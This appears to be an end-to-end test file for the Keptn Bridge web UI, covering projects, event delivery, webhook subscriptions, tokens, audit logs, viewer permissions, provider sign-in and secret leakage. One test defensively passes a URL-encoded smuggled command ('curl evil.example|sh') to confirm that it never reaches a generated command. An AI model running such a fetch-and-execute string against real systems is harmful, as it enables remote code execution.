import { hkdfSync } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { type AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { AUDIENCE, BRIDGE_CLIENT, CLI_CLIENT, IdentityProvider } from './access/identity-provider';
import { placesOf } from './access/secret-search';
import { BridgeBrowser, type BridgePage } from './bridge-page';
import { base64 } from './quality-gate';
import { type LaunchedSystem, newLaunch, removeData, startSystem } from './running-system';

/** Milliseconds; a browser on a busy machine. */
const TIMEOUT_MS = 120_000;

const PROJECT = 'sockshop';
const SHIPYARD = 'stages:\n  - name: dev\n    deployment_strategy: direct\n  - name: production\n';
const CARTS = `/configuration-service/v1/project/${PROJECT}/stage/dev/service/carts`;

let system: LaunchedSystem;
let browser: BridgeBrowser;
let bridge: BridgePage;
let address: string;

/** Signs people in. */
let provider: IdentityProvider;

/** Values of cookies that somebody was signed in with. */
const sessions: string[] = [];

/** Gets the events of subscriptions, and answers as the test says. */
let receiver: Server;
let receiverAnswer = 500;

beforeAll(async () => {
  receiver = createServer((request, response) => {
    request.resume();
    response.writeHead(receiverAnswer).end();
  });
  await once(receiver.listen(0, '127.0.0.1'), 'listening');
  const launch = await newLaunch();
  address = `http://localhost:${launch.firstPort}/bridge/`;
  provider = await IdentityProvider.start(`${address}sign-in/callback`);
  const signIn = { name: 'Example Corp.', clientId: CLI_CLIENT, bridgeClientId: BRIDGE_CLIENT.id };
  const grants = [{ claims: { groups: 'platform' }, role: 'operator' }];
  const environment = {
    ALLOWED_SINK_NETWORKS: '127.0.0.0/8',
    IDENTITY_PROVIDERS: JSON.stringify([{ issuer: provider.issuer, audience: AUDIENCE, signIn, grants }]),
    SIGN_IN_CLIENT_SECRETS: JSON.stringify({ [BRIDGE_CLIENT.id]: BRIDGE_CLIENT.secret }),
  };
  system = await startSystem({ ...launch, environment });
  const shipyard = base64(SHIPYARD);
  const created = [
    await system.call('POST', '/v1/project', { name: PROJECT, shipyard }),
    await system.call('POST', `/v1/project/${PROJECT}/service`, { serviceName: 'carts' }),
    await system.call('PUT', `${CARTS}/resource/slo.yaml`, { resourceContent: base64('spec_version: "1.0"\n') }),
  ];
  expect(created.map(({ status }) => status)).toEqual([200, 200, 201]);
  ({ browser, bridge } = await BridgeBrowser.signedIn(system, 'ada'));
}, TIMEOUT_MS);

afterAll(async () => {
  await browser.close();
  receiver.closeAllConnections();
  receiver.close();
  await system.interrupt();
  await Promise.all([removeData(system.launch), provider.stop()]);
}, TIMEOUT_MS);

/** What the browser complains of fails any test that has not asked for it. */
afterEach(async () => {
  sessions.push(...(await browser.cookies()).map(({ value }) => value));
  expect(bridge.takeComplaints()).toEqual([]);
});

describe('actions in the Bridge', { timeout: TIMEOUT_MS }, () => {
  it('check a project before they create it, and show what is wrong where it is', async () => {
    await bridge.open('new-project');
    await bridge.page.getByLabel('Name', { exact: true }).fill('shop');
    const shipyard = bridge.page.getByLabel('Shipyard', { exact: true });
    await shipyard.fill('stages:\n  - name: dev\n  - name: dev\n');
    await bridge.press('Create project');
    await bridge.shows(/status 400, INVALID_SHIPYARD/);
    expect(await bridge.examine('new-project-faults')).toEqual([]);
    await bridge.press(/^Go to line/);
    await shipyard.fill(SHIPYARD);
    await bridge.press('Check only');
    await bridge.shows('The project could be created like this.');
    expect((await system.call('GET', '/configuration-service/v1/project/shop')).status).toBe(404);
    expect(bridge.takeComplaints()).toEqual([expect.stringContaining('400')]);
  });

  it('create a service, deliver an artifact, and start an evaluation, by keyboard alone', async () => {
    await bridge.open(`actions/${PROJECT}`);
    await bridge.isAt(`Actions on ${PROJECT}`);
    expect(await bridge.examine('actions')).toEqual([]);
    const name = bridge.page.getByLabel('Name of the new service');
    await name.fill('carts');
    await name.press('Enter');
    await bridge.shows(/status 409, SERVICE_EXISTS/);
    expect(bridge.takeComplaints()).toEqual([expect.stringContaining('409')]);
    await name.fill('orders');
    await bridge.shows('keptn create service orders --project=sockshop');
    await name.press('Enter');
    await bridge.shows('Service orders is in every stage now.');
    await bridge.page.getByLabel('Service', { exact: true }).fill('carts');
    const image = bridge.page.getByLabel('Image with its tag');
    await image.fill('docker.io/keptnexamples/carts:0.13.1');
    await bridge.shows(
      'keptn send event new-artifact --project=sockshop --service=carts --image=docker.io/keptnexamples/carts:0.13.1',
    );
    await image.press('Enter');
    await bridge.isAt(/^Run: Configuration changed \(carts\)$/);
    await bridge.open(`actions/${PROJECT}?service=carts&stage=dev`);
    await bridge.page.getByLabel('Length, such as 5m').press('Enter');
    await bridge.isAt(/^Run: Evaluation started \(carts\)$/);
  });

  it('deliver once, however often the answer is lost', async () => {
    const tag = '0.13.2';
    await bridge.open(`actions/${PROJECT}?service=carts`);
    await bridge.page.route(
      '**/v1/event',
      async (route) => {
        await route.fetch();
        await route.abort();
      },
      { times: 1 },
    );
    await bridge.page.getByLabel('Image with its tag').fill(`docker.io/keptnexamples/carts:${tag}`);
    await bridge.press(/^Deliver$/);
    await bridge.shows(/Check the connection, and try again/);
    await bridge.press(/^Deliver$/);
    await bridge.isAt(/^Run: Configuration changed \(carts\)$/);
    const query = `project=${PROJECT}&type=sh.keptn.event.configuration.change&pageSize=100`;
    const { json } = await system.call('GET', `/mongodb-datastore/event?${query}`);
    const delivered = (json as { events: object[] }).events.filter((event) => JSON.stringify(event).includes(tag));
    expect(delivered).toHaveLength(1);
    expect(bridge.takeComplaints()).toEqual([expect.stringContaining('Failed to load resource')]);
  });

  it('send any event by the form that its schema makes', async () => {
    await bridge.open(`send-event?project=${PROJECT}`);
    await bridge.page.getByLabel(/^Type/).selectOption('sh.keptn.events.deployment-finished');
    await bridge.page.getByLabel(/^tag /).fill('0.14.0');
    const json = bridge.page.getByLabel('Data as JSON');
    expect(JSON.parse(await json.inputValue())).toMatchObject({ project: PROJECT, tag: '0.14.0' });
    expect(await bridge.examine('send-event')).toEqual([]);
    const whole = await json.inputValue();
    await json.fill('{');
    await bridge.shows(/This is no JSON object yet/);
    await json.fill(whole);
    await bridge.press('Send event');
    await bridge.isAt(/^Run: Deployed \(carts\)$/);
  });

  it('delete what has been typed, and nothing else', async () => {
    await bridge.open(`actions/${PROJECT}?service=orders`);
    const typed = bridge.page.getByLabel('Name of the service to delete');
    await typed.fill('carts');
    expect(await bridge.page.getByRole('button', { name: 'Delete service' }).isDisabled()).toBe(true);
    await typed.fill('orders');
    await typed.press('Enter');
    await bridge.shows('Service orders is deleted from every stage.');
    await bridge.shows('keptn delete service carts --project=sockshop');
    const { json } = await system.call('GET', `/configuration-service/v1/project/${PROJECT}/service`);
    expect(JSON.stringify(json)).not.toContain('orders');
  });
});

describe('subscriptions in the Bridge', { timeout: TIMEOUT_MS }, () => {
  const sink = (): string => `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`;

  it('are created, and their secrets are shown once or never', async () => {
    await bridge.open('new-subscription');
    expect(await bridge.examine('new-subscription')).toEqual([]);
    await bridge.page.getByLabel('Name', { exact: true }).fill('chat');
    await bridge.page.getByLabel(/^URL/).fill('http://10.0.0.1/hook');
    await bridge.page.getByLabel('Secret header (optional)').fill('authorization');
    await bridge.page.getByLabel('Value of the secret header').fill('Bearer hidden');
    await bridge.press('Create subscription');
    await bridge.shows(/status 400, SINK_NOT_PERMITTED/);
    expect(bridge.takeComplaints()).toEqual([expect.stringContaining('400')]);
    await bridge.page.getByLabel(/^URL/).fill(sink());
    await bridge.press('Create subscription');
    await bridge.shows('Subscription chat is active');
    await bridge.shows(/^whsec_/);
    await bridge.page.getByRole('link', { name: 'Subscriptions' }).first().click();
    await bridge.isAt('Subscriptions');
    await bridge.shows(/authorization/);
    expect(await bridge.page.content()).not.toMatch(/Bearer hidden|whsec_/);
    expect(await bridge.examine('subscriptions')).toEqual([]);
  });

  it('are changed, and keep the secrets that nobody is shown', async () => {
    await bridge.open('subscriptions');
    await bridge.page.getByRole('link', { name: 'Change chat' }).click();
    await bridge.isAt('Change chat');
    await bridge.page.getByLabel(/^Event types/).fill('io.example.chat, io.example.mail');
    await bridge.page.getByLabel(/^Only of this project/).fill(PROJECT);
    await bridge.shows(
      `keptn update subscription chat --sink=${sink()} --type=io.example.chat --type=io.example.mail --filter=project=${PROJECT}`,
    );
    expect(await bridge.examine('subscription')).toEqual([]);
    await bridge.press('Save changes');
    await bridge.isAt('Subscriptions');
    await bridge.shows('io.example.chat, io.example.mail');
    const { json } = await system.call('GET', '/event-broker/v1/subscriptions/chat');
    expect(json).toMatchObject({
      filters: [{ exact: { project: PROJECT } }],
      secretHeaderNames: ['authorization'],
      protocolSettings: { mode: 'structured' },
    });
    const filters = [{ not: { exact: { result: 'pass' } } }];
    const changed = await system.call('PUT', '/event-broker/v1/subscriptions/chat', { sink: sink(), filters });
    expect(changed.status).toBe(200);
    await bridge.open('subscription/chat');
    await bridge.shows(/stay as they are/);
    await bridge.press('Save changes');
    await bridge.isAt('Subscriptions');
    await bridge.shows('[{"not":{"exact":{"result":"pass"}}}]');
  });

  it('are paused and resumed by keyboard', async () => {
    await bridge.open('subscriptions');
    await bridge.press('Pause chat');
    await bridge.shows('paused by request');
    await bridge.press('Resume chat');
    await bridge.page.getByText('paused by request').waitFor({ state: 'detached' });
  });

  it('show dead letters, which are delivered again', async () => {
    const subscription = { name: 'flaky', sink: sink(), types: ['io.example.letter'] };
    const protocolSettings = { maxAttempts: 1 };
    await system.call('POST', '/event-broker/v1/subscriptions', { ...subscription, protocolSettings });
    await bridge.open('deliveries?outcome=dead&subscription=flaky');
    await bridge.shows('live');
    await system.call('POST', '/v1/event', { type: 'io.example.letter', source: 'a-test', data: { project: PROJECT } });
    await bridge.shows('io.example.letter');
    await bridge.open('subscriptions');
    await bridge.page.getByRole('link', { name: 'Dead letters of flaky' }).click();
    await bridge.isAt('Dead letters');
    await bridge.shows(/answered 500/);
    expect(await bridge.examine('deliveries')).toEqual([]);
    receiverAnswer = 200;
    await bridge.press(/^Deliver again: number \d+ to flaky$/);
    await bridge.page.getByText(/answered 500/).waitFor({ state: 'detached' });
    await bridge.open('deliveries?subscription=flaky');
    await bridge.shows(/answered 200/);
  });

  it('take nothing from a link that they do not know, neither into a command nor to the API', async () => {
    await bridge.open('deliveries?x%3B%20curl%20evil.example%7Csh%20%23=1&outcome=foo&keptnContext=abc');
    await bridge.shows('There are no deliveries like this.');
    const command = bridge.page.getByLabel('command that lists', { exact: true });
    expect(await command.textContent()).toBe('keptn get deliveries --keptn-context=abc');
    await bridge.open('runs?kind=foo&utm_source=slack');
    await bridge.isAt('Runs');
    await bridge.shows(/ of carts/);
  });
});

describe('the system in the Bridge', { timeout: TIMEOUT_MS }, () => {
  it('says how its services, the log and distribution fare', async () => {
    await bridge.open('system');
    await bridge.isAt('System');
    await bridge.shows('shipyard-controller');
    expect(await bridge.page.getByText('unreachable').count()).toBe(0);
    await bridge.shows(/^number \d+$/);
    expect(await bridge.examine('system')).toEqual([]);
  });

  it('has one event stream for all pages of a browser', async () => {
    // Each of more than six streams would take a connection, and no page could ask for anything any more.
    const pages = await Promise.all(Array.from({ length: 8 }, () => browser.newPage(address)));
    await Promise.all(pages.map((page) => page.open(`project/${PROJECT}`)));
    await Promise.all(pages.map((page) => page.shows('live')));
    const data = {
      project: PROJECT,
      stage: 'production',
      service: 'carts',
      image: 'docker.io/keptnexamples/carts',
      tag: '0.15.0',
    };
    await system.call('POST', '/v1/event', { type: 'sh.keptn.events.deployment-finished', source: 'a-test', data });
    await Promise.all(pages.map((page) => page.shows('carts:0.15.0')));
    expect(pages.flatMap((page) => page.takeComplaints())).toEqual([]);
    await Promise.all(pages.map(({ page }) => page.close()));
  });
});

describe('access in the Bridge', { timeout: TIMEOUT_MS }, () => {
  let token: string;

  it('is given by tokens, each of which is shown once', async () => {
    await bridge.open('tokens');
    await bridge.page.getByLabel('Name of the token').fill('dashboard');
    await bridge.page.getByLabel(/^For these projects/).fill(PROJECT);
    await bridge.shows('keptn create token dashboard --role=viewer --project=sockshop');
    await bridge.press('Create token');
    await bridge.shows(/^kpt_/);
    token = await bridge.page.getByLabel('token', { exact: true }).innerText();
    expect(await bridge.examine('tokens')).toEqual([]);
    await bridge.open('tokens');
    await bridge.shows('dashboard');
    expect(await bridge.page.content()).not.toContain('kpt_');
    await bridge.press('Rotate dashboard');
    await bridge.shows(/^kpt_/);
  });

  it('is recorded, and found by who did what', async () => {
    await bridge.open('audit');
    await bridge.shows('POST /v1/token/{name}/rotate');
    expect(await bridge.examine('audit')).toEqual([]);
    await bridge.page.getByLabel('Operation').fill('DELETE /v1/project/{project}/service/{service}');
    await bridge.press('Search');
    await bridge.page.waitForURL(/action=/);
    await bridge.shows("keptn get audit --action='DELETE /v1/project/{project}/service/{service}'");
    await bridge.shows('sockshop orders');
    expect(await bridge.page.content()).not.toContain(token);
  });

  it('shows a viewer no button that would be refused, and says why a page has nothing for them', async () => {
    await browser.forgetCookies();
    await bridge.open();
    await bridge.signIn(token, 'eve');
    await bridge.isAt('Projects');
    expect(await bridge.page.getByRole('link', { name: /New project|Tokens|Audit/ }).count()).toBe(0);
    await bridge.open(`actions/${PROJECT}`);
    await bridge.shows('You may look at this project, and change nothing in it.');
    await bridge.open(`resources/${PROJECT}?stage=dev&service=carts&path=slo.yaml`);
    await bridge.page.getByLabel('Content', { exact: true }).waitFor();
    expect(await bridge.page.getByRole('button', { name: /Save|Delete/ }).count()).toBe(0);
    expect(await bridge.examine('viewer')).toEqual([]);
    await bridge.open('tokens');
    await bridge.shows(/this needs the scope token:manage/);
    expect(bridge.takeComplaints()).toEqual([expect.stringContaining('403')]);
  });

  it('ends everywhere when its token is deleted', async () => {
    await bridge.open(`project/${PROJECT}`);
    await bridge.isAt(PROJECT);
    expect((await system.call('DELETE', '/v1/token/dashboard')).status).toBe(200);
    await vi.waitFor(async () => {
      const { status } = await system.call('GET', '/v1/metadata', undefined, { 'x-token': token });
      expect(status).toBe(401);
    }, 10_000);
    await bridge.page.getByRole('link', { name: 'Runs' }).first().click();
    await bridge.isAt('Sign in to Keptn');
    const readable = await bridge.page.evaluate<string>(
      'JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, location.href])',
    );
    expect(readable).not.toMatch(/kpt_|whsec_|hidden/);
    expect(bridge.takeComplaints().filter((text) => !text.includes('401'))).toEqual([]);
  });

  it('is given to people whom a provider signs in, and ends when they sign out', async () => {
    await bridge.open(`project/${PROJECT}`);
    await bridge.isAt('Sign in to Keptn');
    expect(await bridge.examine('sign-in-with-provider')).toEqual([]);
    bridge.takeComplaints();
    await bridge.page.getByRole('link', { name: 'Sign in with Example Corp.' }).click();
    await bridge.page.getByPlaceholder('Enter any login').fill('ada');
    await bridge.page.getByPlaceholder('and password').fill('any');
    await bridge.page.getByRole('button', { name: 'Sign-in' }).click();
    await bridge.page.getByRole('button', { name: 'Continue' }).click();
    await bridge.isAt(PROJECT);
    // Those of the provider's pages.
    bridge.takeComplaints();
    await bridge.page.getByRole('banner').getByText('ada', { exact: true }).waitFor();
    await bridge.shows('live');
    await bridge.open('tokens');
    await bridge.shows(/this needs the scope token:manage/);
    expect(bridge.takeComplaints()).toEqual([expect.stringContaining('403')]);
    sessions.push(...(await browser.cookies()).map(({ value }) => value));
    await bridge.press('Sign out');
    await bridge.isAt('Sign in to Keptn');
    expect(await (await fetch(`${address}session`)).json()).toMatchObject({ signedIn: false });
  });

  it('leaves no secret in a log, a file, the list of processes or the audit log', async () => {
    const token = await system.token();
    const key = Buffer.from(hkdfSync('sha256', token, 'keptn', 'session cookie of the Bridge', 32));
    const keys = (['hex', 'base64', 'base64url'] as const).map((encoding) => key.toString(encoding));
    expect(sessions.length).toBeGreaterThan(0);
    expect(await placesOf([...keys, ...sessions, BRIDGE_CLIENT.secret], system)).toEqual([]);
    // Without a key to encrypt it with, the database has the header of the subscription; the log has it never.
    expect(system.output).not.toContain('Bearer hidden');
    // The launcher shows the token once, to the person who starts it.
    expect(system.output.split(token)).toHaveLength(2);
  });
});
